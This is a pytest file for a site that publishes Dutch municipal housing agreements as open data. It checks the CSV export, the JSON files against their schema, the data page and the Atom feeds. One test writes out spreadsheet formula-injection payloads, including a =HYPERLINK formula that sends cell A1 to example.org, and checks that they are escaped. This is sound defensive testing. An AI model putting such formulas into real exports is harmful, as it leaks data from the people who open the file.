"""Open data and feeds on the built site: the CSV opens in a spreadsheet and never runs a formula,
the JSON validates against the published schema, the feeds are valid Atom dated from the data."""

from __future__ import annotations

import csv
import datetime
import io
import json
import re
import shutil
import xml.etree.ElementTree as ET
from pathlib import Path

import jsonschema
import yaml

from generator.collect import collect
from generator.indexes import build_site
from generator.opendata import COLUMNS, write_agreements_csv
from tests.conftest import ROOT

ATOM = "{http://www.w3.org/2005/Atom}"


def published() -> list:
    registry = collect(ROOT / "data").registry
    assert registry is not None
    return [d for d in registry.documenten if not d.is_concept]


def read_csv(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""), delimiter=";"))


def test_the_csv_has_one_row_per_agreement_of_every_published_document(site: Path) -> None:
    raw = (site / "data" / "afspraken.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf"), "a BOM, so that a spreadsheet reads UTF-8"
    rows = read_csv(raw.decode("utf-8"))
    assert tuple(rows[0]) == COLUMNS
    body = [dict(zip(COLUMNS, row, strict=True)) for row in rows[1:]]
    expected = [(d.gemeente, str(d.jaar), a.nummer) for d in published() for a in d.afspraken]
    found = [(r["url"].split("/")[2], r["jaar"], r["nummer"]) for r in body]
    assert sorted(found) == sorted(expected)
    assert any("ë" in r["tekst"] or "é" in r["tekst"] for r in body)
    hardenberg_16 = next(r for r in body if r["url"] == "/gemeenten/hardenberg/2026/#afspraak-16")
    assert "statushouders" in hardenberg_16["tekst"].lower()
    assert "Vechtdal Wonen (" in hardenberg_16["partijen"]
    for row in body[:: max(1, len(body) // 25)]:
        page, anchor = row["url"].split("#")
        assert f'id="{anchor}"' in (site / page.strip("/") / "index.html").read_text(encoding="utf-8")


def test_a_formula_in_the_data_stays_text_in_the_csv(tmp_path: Path) -> None:
    data = tmp_path / "data"
    shutil.copytree(ROOT / "data", data)
    path = data / "hardenberg" / "2026.yaml"
    text = path.read_text(encoding="utf-8")
    hostile = ['=HYPERLINK("http://example.org/?"&A1;"klik")', "+1+1", "-2+3", "@SUM(1;1)"]
    for number, payload in zip(("1", "2", "3", "4"), hostile, strict=True):
        start = text.index(f'      - nummer: "{number}"\n')
        block_end = text.index("        initiatief:", start)
        text = text[:start] + f'      - nummer: "{number}"\n        tekst: {json.dumps(payload)}\n' + text[block_end:]
    path.write_text(text, encoding="utf-8")
    registry = collect(data).registry
    assert registry is not None
    out = io.StringIO()
    write_agreements_csv(build_site(registry), out)
    rows = read_csv(out.getvalue())
    texts = [row[COLUMNS.index("tekst")] for row in rows[1:5]]
    assert texts == ["'" + payload for payload in hostile]
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


def test_every_document_json_validates_against_the_published_schema_and_equals_the_data(site: Path) -> None:
    schema = json.loads((site / "schema" / "document.schema.json").read_text(encoding="utf-8"))
    validator = jsonschema.Draft202012Validator(schema, format_checker=jsonschema.FormatChecker())
    files = sorted((site / "data" / "documenten").glob("*.json"))
    assert [f.stem for f in files] == sorted(f"{d.gemeente}-{d.jaar}" for d in published())
    for path in files:
        document = json.loads(path.read_text(encoding="utf-8"))
        assert list(validator.iter_errors(document)) == [], path.name
        gemeente, jaar = path.stem.rsplit("-", 1)
        source = yaml.safe_load((ROOT / "data" / gemeente / f"{jaar}.yaml").read_text(encoding="utf-8"))
        assert document["titel"] == source["titel"]
        assert len(json.dumps(document["hoofdstukken"])) == len(json.dumps(source["hoofdstukken"]))


def test_the_data_page_lists_the_downloads_with_schema_licence_and_data_date(site: Path) -> None:
    html = (site / "data" / "index.html").read_text(encoding="utf-8")
    for link in re.findall(r'href="([^"#]+\.(?:json|csv|xml))"', html):
        assert (site / "data" / link).resolve().is_file(), link
    assert "document.schema.json" in html and "afspraken.csv" in html and "Voorwaarden" in html
    newest = max(d.ondertekening.datum for d in published() if d.ondertekening and d.ondertekening.datum)
    day = datetime.date.fromisoformat(newest)
    assert re.search(rf"Stand van de gegevens:</strong> {day.day} \w+ {day.year}", html)


def parse_feed(path: Path) -> ET.Element:
    root = ET.parse(path).getroot()
    assert root.tag == f"{ATOM}feed"
    for tag in ("id", "title", "updated"):
        assert (root.findtext(f"{ATOM}{tag}") or "").strip(), tag
    assert root.find(f"{ATOM}author/{ATOM}name") is not None
    assert root.find(f"{ATOM}link[@rel='self']") is not None
    for entry in root.findall(f"{ATOM}entry"):
        for tag in ("id", "title", "updated", "published"):
            assert (entry.findtext(f"{ATOM}{tag}") or "").strip(), tag
        assert entry.findtext(f"{ATOM}id", "").startswith("urn:uuid:")
        datetime.datetime.fromisoformat(entry.findtext(f"{ATOM}updated", "").replace("Z", "+00:00"))
        assert entry.find(f"{ATOM}link[@rel='alternate']") is not None
    return root


def test_the_feeds_are_atom_with_entries_dated_by_signing(site: Path) -> None:
    root = parse_feed(site / "atom.xml")
    entries = root.findall(f"{ATOM}entry")
    signed = {f"/gemeenten/{d.gemeente}/{d.jaar}/": d.ondertekening.datum for d in published() if d.signed_on}
    found = {e.find(f"{ATOM}link").get("href"): e.findtext(f"{ATOM}updated")[:10] for e in entries}
    assert found == signed
    assert len({e.findtext(f"{ATOM}id") for e in entries}) == len(entries)
    assert root.findtext(f"{ATOM}updated")[:10] == max(signed.values())
    for href in found:
        assert (site / href.strip("/") / "index.html").is_file()
    for document in published():
        feed = site / "gemeenten" / document.gemeente / "atom.xml"
        parse_feed(feed)
        page = (site / "gemeenten" / document.gemeente / "index.html").read_text(encoding="utf-8")
        own = r'<link rel="alternate" type="application/atom\+xml" title="Nieuwe documenten van deze gemeente" href="([^"]+)"'
        link = re.search(own, page)
        assert link and (site / "gemeenten" / document.gemeente / link.group(1)).resolve() == feed.resolve()
    assert '<link rel="alternate" type="application/atom+xml"' in (site / "index.html").read_text(encoding="utf-8")
